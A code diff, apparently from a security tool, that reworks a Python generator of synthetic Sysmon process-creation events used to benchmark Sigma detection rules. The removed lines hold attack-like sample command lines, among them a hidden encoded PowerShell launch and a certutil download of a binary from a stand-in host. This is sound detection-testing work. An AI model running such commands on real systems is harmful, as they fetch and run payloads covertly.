@@ -1,43 +1,37 @@
 """Lanes for `netsentinel bench detect`: streams of Windows process creations, made the same way every time.
 
-Every event is a flat record with the names that Sigma's rules speak, as log shippers send them, without the rendered
-message. On the unique lane no command line comes twice, so that nothing is gained by remembering values; on the
-repeated lane they come back, as they do in ordinary telemetry.
+Every event is a flat Sysmon record with the names that Sigma's rules speak, as log shippers send them, without the
+rendered message. Ordinary events are what 500 people's machines start all day; attacks are templates that rules know.
+On unique lanes no command line comes twice, so that nothing is gained by remembering command lines.
 """
 
+from bisect import bisect_right
 from collections.abc import Iterable, Iterator, Sequence
+from dataclasses import dataclass
 from enum import StrEnum
 from hashlib import blake2b
+from itertools import accumulate
 from pathlib import Path
 from typing import Any
 
 import msgspec
 
-_SYSTEM32 = "C:\\Windows\\System32\\"
-_PROCESSES = (
-    ("svchost.exe", "services.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"),
-    ("svchost.exe", "services.exe", "C:\\Windows\\system32\\svchost.exe -k LocalService -p -s fdPHost"),
-    ("cmd.exe", "explorer.exe", '"C:\\Windows\\system32\\cmd.exe" /c dir C:\\Users\\ann\\Documents'),
-    ("whoami.exe", "cmd.exe", "whoami /all"),
-    ("ipconfig.exe", "cmd.exe", "ipconfig /all"),
-    ("net.exe", "cmd.exe", 'net group "Domain Admins" /domain'),
-    ("reg.exe", "cmd.exe", "reg query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /s"),
-    ("schtasks.exe", "cmd.exe", "schtasks /create /sc daily /tn Backup /tr C:\\Tools\\backup.bat"),
-    ("rundll32.exe", "svchost.exe", "C:\\Windows\\System32\\rundll32.exe shell32.dll,SHCreateLocalServerRunDll"),
-    ("powershell.exe", "explorer.exe", "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Tools\\report.ps1"),
-    ("powershell.exe", "cmd.exe", "powershell -w hidden -enc JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwAtAE8AYgBqAGUAYwB0AA=="),
-    ("wmiprvse.exe", "svchost.exe", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding"),
-    ("taskhostw.exe", "svchost.exe", "taskhostw.exe Install $(Arg0)"),
-    ("conhost.exe", "cmd.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"),
-    ("certutil.exe", "cmd.exe", "certutil -urlcache -split -f http://files.example.org/tool.bin C:\\Temp\\tool.bin"),
-    ("msiexec.exe", "explorer.exe", "C:\\Windows\\System32\\msiexec.exe /i C:\\Users\\ann\\Downloads\\viewer.msi /qn"),
-    ("sc.exe", "cmd.exe", "sc query type= service state= all"),
-    ("backgroundTaskHost.exe", "svchost.exe", "backgroundTaskHost.exe -ServerName:App.AppXmtcan0h2tfbfy7k9kn8hb.mca"),
-)
-"""Program, its parent and its command line."""
+from netsentinel.cli.lane_programs import ATTACKS, ORDINARY
 
-_TOKEN_BYTES = 6
+ATTACK_EVERY = 50
+"""On an ordinary lane one event of so many is an attack: far more than real networks have, rules have to be busy."""
+
+_SYSTEM32 = "C:\\Windows\\System32\\"
 _CLOCK_STEP_MS = 7
+_PEOPLE = 500
+_SIBLINGS = 8
+"""So many events in a row share the id of their parent."""
+_RETURN_AFTER = 500
+"""On the repeated lane ids, and so command lines, come back after so many events."""
+_BUILDS = 3
+"""Builds of each program in use at the same time; they differ in version and hashes."""
+
+_HEAVIEST = tuple(accumulate(program.weight for program in ORDINARY))
 
 
 class Lane(StrEnum):
@@ -47,15 +41,28 @@ class Lane(StrEnum):
     REPEATED = "repeated"
 
 
+@dataclass(frozen=True, slots=True)
+class Stream:
+    """What a stream of events is made of."""
+
+    attacks: Sequence[dict[str, Any]]
+    """Templates of attacks, in turn."""
+    attack_every: int
+    """One event of so many is an attack; 1 for attacks only."""
+    lane: Lane
+    first: int = 0
+    """Number of the first event: streams with other numbers share no command line."""
+
+
 def templates(file: Path | None) -> list[dict[str, Any]]:
-    """The process creations of a file of Windows events, or the built-in ones.
+    """The process creations of a file of Windows events, or the built-in attacks.
 
     Raises:
         InvalidInputError: the file has none.
         NotFoundError: there is no such file.
     """
     if file is None:
-        return [_built_in(*process) for process in _PROCESSES]
+        return [_attack(*attack) for attack in ATTACKS]
     found = list(_creations(file))
     if not found:
         from netsentinel.kernel.errors import InvalidInputError
@@ -64,54 +71,97 @@ def templates(file: Path | None) -> list[dict[str, Any]]:
     return found
 
 
-def batches(kept: Sequence[dict[str, Any]], lane: Lane, events: int, size: int) -> Iterator[bytes]:
-    """Newline-separated JSON records, `size` at a time: the templates in turn, each with a time and ids of its own."""
-    for start in range(0, events, size):
-        numbers = range(start, min(start + size, events))
-        yield b"\n".join(_record(kept[number % len(kept)], lane, number) for number in numbers)
+def batches(stream: Stream, events: int, size: int) -> Iterator[bytes]:
+    """Newline-separated JSON records, `size` at a time, each with a time and ids of its own."""
+    last = stream.first + events
+    for start in range(stream.first, last, size):
+        yield b"\n".join(record(stream, number) for number in range(start, min(start + size, last)))
 
 
-def _record(template: dict[str, Any], lane: Lane, number: int) -> bytes:
-    token = blake2b(number.to_bytes(8, "big"), digest_size=_TOKEN_BYTES).hexdigest()
+def record(stream: Stream, number: int) -> bytes:
+    """One event of a stream, as JSON."""
+    ident = number if stream.lane is Lane.UNIQUE else number % _RETURN_AFTER
+    token = _token(ident)
     seconds, milliseconds = divmod(number * _CLOCK_STEP_MS, 1_000)
-    clock = f"{seconds // 3600 % 24:02}:{seconds // 60 % 60:02}:{seconds % 60:02}.{milliseconds:03}"
     own = {
-        "UtcTime": f"2026-03-02 {clock}",
-        "ProcessGuid": f"{{6c4b35a1-0000-6650-{token[:4]}-{token}}}",
+        "UtcTime": f"2026-03-{2 + seconds // 86_400:02} {seconds // 3600 % 24:02}:{seconds // 60 % 60:02}:"
+        f"{seconds % 60:02}.{milliseconds:03}",
+        "ProcessGuid": f"{{6c4b35a1-{token[:4]}-6650-{token[4:8]}-{token}}}",
         "ProcessId": str(1_000 + number % 60_000),
     }
-    if lane is Lane.UNIQUE:
-        own["CommandLine"] = f"{template['CommandLine']} {token}"
-    return msgspec.json.encode(template | own)
+    turn, is_ordinary = divmod(number, stream.attack_every)
+    if is_ordinary:
+        return msgspec.json.encode(_ordinary(ident, token) | own)
+    template = stream.attacks[turn % len(stream.attacks)]
+    return msgspec.json.encode(template | own | {"CommandLine": f"{template['CommandLine']} {token}"})
 
 
-def _built_in(program: str, parent: str, command: str) -> dict[str, Any]:
-    digest = blake2b(program.encode(), digest_size=32).hexdigest().upper()
+def _token(number: int) -> str:
+    """Twelve hexadecimal digits, other ones for every number."""
+    return blake2b(number.to_bytes(8, "big"), digest_size=6).hexdigest()
+
+
+def _ordinary(number: int, token: str) -> dict[str, Any]:
+    chance = int.from_bytes(blake2b(token.encode(), digest_size=8).digest(), "big")
+    chance, at = divmod(chance, _HEAVIEST[-1])
+    program = ORDINARY[bisect_right(_HEAVIEST, at)]
+    chance, person = divmod(chance, _PEOPLE)
+    user, build = f"user{person:03}", chance % _BUILDS
+    words = {"h": token, "g": f"{token[:8]}-{token[8:]}-11d2-{token[:4]}-{token}", "u": user}
+    siblings = {"s": _token(number // _SIBLINGS)}
+    name = "NT AUTHORITY\\SYSTEM" if program.as_system else f"EXAMPLE\\{user}"
+    return {
+        **_identity(program.image, program.description, program.maker, build),
+        "Computer": f"ws{person:03}.example.org",
+        "CommandLine": program.command.format(**words),
+        "CurrentDirectory": _SYSTEM32 if program.as_system else f"C:\\Users\\{user}\\",
+        "User": name,
+        "LogonGuid": f"{{6c4b35a1-fbf6-64b5-{person:04}-060000000000}}",
+        "LogonId": "0x3e7" if program.as_system else f"0x627{person:03x}",
+        "TerminalSessionId": "0" if program.as_system else "1",
+        "IntegrityLevel": "System" if program.as_system else "Medium",
+        "ParentProcessGuid": f"{{6c4b35a1-fc03-64b5-7b00-{siblings['s']}}}",
+        "ParentProcessId": str(700 + number // _SIBLINGS % 20_000),
+        "ParentImage": program.parent,
+        "ParentCommandLine": program.parent_command.format(**siblings),
+        "ParentUser": name,
+    }
+
+
+def _identity(image: str, description: str, maker: tuple[str, str], build: int) -> dict[str, Any]:
+    """What a program's file says of itself, and where the event comes from."""
+    digest = blake2b(f"{image} {build}".encode(), digest_size=32).hexdigest().upper()
     return {
         "EventID": 1,
         "Channel": "Microsoft-Windows-Sysmon/Operational",
         "Provider_Name": "Microsoft-Windows-Sysmon",
-        "Computer": "ws01.example.org",
         "RuleName": "-",
-        "Image": _SYSTEM32 + program,
-        "FileVersion": "10.0.20348.1 (WinBuild.160101.0800)",
-        "Description": program.partition(".")[0],
-        "Product": "Microsoft® Windows® Operating System",
-        "Company": "Microsoft Corporation",
-        "OriginalFileName": program,
+        "Image": image,
+        "FileVersion": f"10.0.22621.{build + 1} (WinBuild.160101.0800)",
+        "Description": description,
+        "Product": maker[1],
+        "Company": maker[0],
+        "OriginalFileName": image.rpartition("\\")[2],
+        "Hashes": f"MD5={digest[:32]},SHA256={digest},IMPHASH={digest[32:]}",
+    }
+
+
+def _attack(program: str, parent: str, command: str) -> dict[str, Any]:
+    return {
+        **_identity(_SYSTEM32 + program, program, ("Microsoft Corporation", "Microsoft® Windows® Operating System"), 0),
+        "Computer": "ws001.example.org",
         "CommandLine": command,
-        "CurrentDirectory": "C:\\Users\\ann\\",
-        "User": "EXAMPLE\\ann",
-        "LogonGuid": "{6c4b35a1-fbf6-64b5-b727-060000000000}",
-        "LogonId": "0x627b7",
+        "CurrentDirectory": "C:\\Users\\user001\\",
+        "User": "EXAMPLE\\user001",
+        "LogonGuid": "{6c4b35a1-fbf6-64b5-0001-060000000000}",
+        "LogonId": "0x627001",
         "TerminalSessionId": "1",
         "IntegrityLevel": "Medium",
-        "Hashes": f"MD5={digest[:32]},SHA256={digest},IMPHASH={digest[32:]}",
         "ParentProcessGuid": "{6c4b35a1-fc03-64b5-7b00-000000001000}",
         "ParentProcessId": "788",
         "ParentImage": _SYSTEM32 + parent,
         "ParentCommandLine": parent,
-        "ParentUser": "EXAMPLE\\ann",
+        "ParentUser": "EXAMPLE\\user001",
     }
 
 
@@ -128,8 +178,8 @@ def _creations_of(records: Iterable[Any]) -> Iterator[dict[str, Any]]:
     from netsentinel.kernel.types import DEFAULT_TENANT
 
     windows = FORMATS["windows"]
-    for record in records:
-        native = table(record)
+    for found in records:
+        native = table(found)
         if not windows.recognises(native):
             continue
         event = windows.parse(native, b"", DEFAULT_TENANT, "bench")
